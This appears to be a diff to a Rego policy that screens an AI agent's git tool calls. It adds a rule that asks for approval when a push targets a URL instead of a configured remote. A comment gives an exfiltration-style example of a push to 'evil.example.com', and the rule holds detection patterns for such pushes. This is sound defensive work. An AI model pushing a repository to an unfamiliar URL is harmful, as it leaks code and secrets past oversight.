@@ -7,7 +7,7 @@
 #   force/force_push/force_with_lease/forcePush key, or a --force/-f/+refspec string)
 #   to a protected branch, or to a branch the input does not name, is denied.
 #   A hard reset through structured input (git_reset {"mode": "hard"}) is asked, like
-#   `git reset --hard`.
+#   `git reset --hard`. A push to a URL remote asks, like `git push URL`.
 # custom:
 #   severity: high
 #   rationale: >-
@@ -190,4 +190,25 @@ ask contains msg if {
 	some b in _file_branches
 	protected_branch(b)
 	msg := sprintf("`%s` writes the CI configuration `%s` onto the protected branch `%s`: it runs on the forge with the repository's secrets. Approve only if intended, or push it to a branch and open a pull request.", [input.facts.tool.name, p, b])
+}
+
+# A push through structured input to a URL rather than a configured remote
+# (mcp__git__git_push {"remote": "https://evil.example.com/x.git"}): the repository goes
+# somewhere new, asked like `git push URL` (session 27). A remote name (`origin`) passes.
+_remote_keys := {"remote", "remote_url", "remoteurl", "url", "repo_url", "repourl", "repository_url", "repositoryurl", "push_url", "pushurl", "remote_name", "repository"}
+
+_push_urls contains value if {
+	walk(_args, [path, value])
+	count(path) > 0
+	key := path[count(path) - 1]
+	is_string(key)
+	lower(key) in _remote_keys
+	is_string(value)
+	regex.match(`^(https?|ssh|git|file)://|^[A-Za-z0-9._-]+@[A-Za-z0-9._-]+:|^/|^\.\.?/|\$`, value)
+}
+
+ask contains msg if {
+	_pushes
+	some u in _push_urls
+	msg := sprintf("`%s` pushes to `%s`, a URL rather than a configured remote. Approve only if that destination is expected.", [input.facts.tool.name, u])
 }
